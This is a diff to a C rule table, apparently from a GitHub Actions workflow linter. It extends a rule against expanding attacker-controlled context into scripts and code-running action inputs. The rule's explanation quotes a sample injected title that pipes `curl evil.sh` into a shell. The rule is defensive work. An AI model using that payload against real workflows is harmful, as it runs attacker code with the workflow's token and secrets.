@@ -81,8 +81,10 @@ static const struct wl_rule ci_rules[] = {
 		"Attacker-controlled GitHub context expanded inside a script",
 		"A `${{ ... }}` expression that an outsider controls (issue or pull-request titles and "
 		"bodies, comments, review bodies, commit messages, branch names such as "
-		"github.head_ref, ...) is expanded textually into a `run:` script or a "
-		"github-script `script:` before the shell runs it. A title like "
+		"github.head_ref, ...) is expanded textually into a `run:` script, or into an action "
+		"input that runs code (github-script `script`, yq `cmd`, azure/cli `inlineScript`, ...), "
+		"before it runs: directly, or through an `env:` value, a step or job output or a matrix "
+		"entry set from one (those are notes to review). A title like "
 		"`a\"; curl evil.sh | sh; echo \"` becomes code running with the workflow's token "
 		"and secrets.",
 		"Never expand untrusted contexts inside the script. Pass them through an environment "
